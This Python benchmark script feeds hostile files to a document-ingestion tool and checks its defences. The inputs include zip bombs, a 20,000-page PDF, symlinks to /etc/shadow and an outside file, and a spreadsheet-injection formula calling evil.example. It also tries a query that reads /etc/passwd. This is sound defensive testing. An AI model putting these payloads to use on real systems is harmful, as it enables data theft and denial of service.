"""A run over the shared sample inbox plus hostile files, under a 4 GiB address-space cap (issue 11).

    python -m benchmarks.hostile_run [--samples ../shared/samples/inbox] [--cap-gib 4] [--workers 2]

Builds the inbox (the samples, and beside them: a docx zip bomb, absurd grid spans, zip-password and
AES docx, a docx of 3,000 parts, a 20,000-page PDF, a PDF ruled 300×300, a document with a 326-digit
value, malformed numerals and formula-like names, links to /etc/shadow and to a file outside, a pipe,
a GBK-byte file name and township folders differing only by invisible marks), runs `jixiao run`
with RLIMIT_AS at the cap (every child inherits it), and prints the wall time, the peak resident
memory of the whole process tree, each sample document's status, and the security checks: nothing
from outside the inbox stored, no formula cell in the export, `query` unable to read a file.
"""

from __future__ import annotations

import argparse
import dataclasses
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import psutil
import pyarrow.parquet as pq

from fixtures.content import make_township_document
from fixtures.docx_writer import write_docx
from fixtures.hostile import (write_docx_aes, write_docx_bomb, write_docx_grid_attack, write_docx_many_members,
                              write_docx_zip_password, write_pdf_many_pages, write_pdf_ruled_grid)

REPO = Path(__file__).resolve().parents[1]


def build(inbox: Path, samples: Path, outside: Path) -> None:
    shutil.copytree(samples, inbox)
    doc = make_township_document(random.Random(42), "攻击镇", "13029999", 2024, 2)
    attacks = inbox / "攻击镇"
    attacks.mkdir()
    for name, write in [("炸弹.docx", write_docx_bomb), ("网格.docx", write_docx_grid_attack),
                        ("口令.docx", write_docx_zip_password), ("AES.docx", write_docx_aes),
                        ("部件.docx", write_docx_many_members), ("万页.pdf", write_pdf_many_pages),
                        ("网格.pdf", write_pdf_ruled_grid)]:
        write(doc, attacks / name)
    project = doc.projects[0]
    weird = ["≤" + "9" * 326 + "元", "≥" + "1" * 4400 + "个", "≥零十五个", "≥一亿一个", "≤一亿零五百万元", "\u200f≤5个"]
    project.indicators = [dataclasses.replace(row, name_raw='=HYPERLINK("http://evil.example/?"&A2,"点此")',
                                              value=dataclasses.replace(row.value, raw=raw))
                          for row, raw in zip(project.indicators, weird)] + project.indicators[len(weird):]
    (inbox / "=1+2镇").mkdir()
    write_docx(doc, inbox / "=1+2镇" / "数值.docx")
    secret = outside / "机密.docx"
    write_docx(make_township_document(random.Random(7), "外部镇", "13020007", 2024, 1), secret)
    (attacks / "外部.docx").symlink_to(secret)
    (attacks / "shadow.txt").symlink_to("/etc/shadow")
    os.mkfifo(attacks / "管道.txt")
    gbk = os.path.join(os.fsencode(attacks), "绩效目标表.docx".encode("gbk"))
    write_docx(make_township_document(random.Random(8), "攻击镇", "13029998", 2024, 1), Path(os.fsdecode(gbk)))
    first = next(p for p in sorted(samples.iterdir()) if p.is_dir())
    shutil.copytree(first, inbox / (first.name[:1] + "\u200b" + first.name[1:]))  # prints as the same township


def run(inbox: Path, out: Path, cap: int, workers: int) -> tuple[float, int, int]:
    """(seconds, peak RSS of the process tree in bytes, exit code) of one capped run."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    started = time.perf_counter()
    process = subprocess.Popen([sys.executable, "-m", "jixiao.cli", "run", str(inbox), "--out", str(out),
                                "--workers", str(workers)], cwd=REPO, preexec_fn=limit,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    root, peak = psutil.Process(process.pid), 0
    while process.poll() is None:
        try:
            tree = [root, *root.children(recursive=True)]
            peak = max(peak, sum(p.memory_info().rss for p in tree if p.is_running()))
        except psutil.Error:
            pass
        time.sleep(0.2)
    output = process.stdout.read()
    print(output[-3000:])
    return time.perf_counter() - started, peak, process.returncode


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--samples", type=Path, default=REPO.parent / "shared" / "samples" / "inbox")
    parser.add_argument("--cap-gib", type=float, default=4)
    parser.add_argument("--workers", type=int, default=2)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "outside").mkdir()
        build(root / "inbox", args.samples, root / "outside")
        out = root / "out"
        seconds, peak, code = run(root / "inbox", out, int(args.cap_gib * 2**30), args.workers)
        print(f"exit {code}; wall {seconds:.1f} s; peak RSS of the process tree {peak / 2**30:.2f} GiB "
              f"(RLIMIT_AS {args.cap_gib:g} GiB per process)")
        documents = pq.read_table(out / "parquet" / "documents.parquet").to_pylist()
        for row in sorted(documents, key=lambda r: r["source_path"]):
            print(f"  {row['status']:8} {row['error_code'] or '':16} {row['township']}: {row['source_path']}")
        stored = " ".join(str(pq.read_table(p).to_pylist()) for p in (out / "parquet").glob("*.parquet"))
        print("from outside the inbox stored:", "外部镇" in stored or "root:" in stored)
        export = root / "district.xlsx"
        subprocess.run([sys.executable, "-m", "jixiao.cli", "export", "--xlsx", str(export), "--out", str(out)],
                       cwd=REPO, check=True, capture_output=True)
        with zipfile.ZipFile(export) as book:
            formulas = sum(book.read(n).count(b"<f>") + book.read(n).count(b"<f ") for n in book.namelist()
                           if n.startswith("xl/worksheets/"))
        print("formula cells in the export:", formulas)
        query = subprocess.run([sys.executable, "-m", "jixiao.cli", "query", "select * from read_text('/etc/passwd')",
                                "--out", str(out)], cwd=REPO, capture_output=True, text=True)
        print("query read_text('/etc/passwd'): exit", query.returncode, "-", (query.stderr or query.stdout).strip()[:160])


if __name__ == "__main__":
    main()
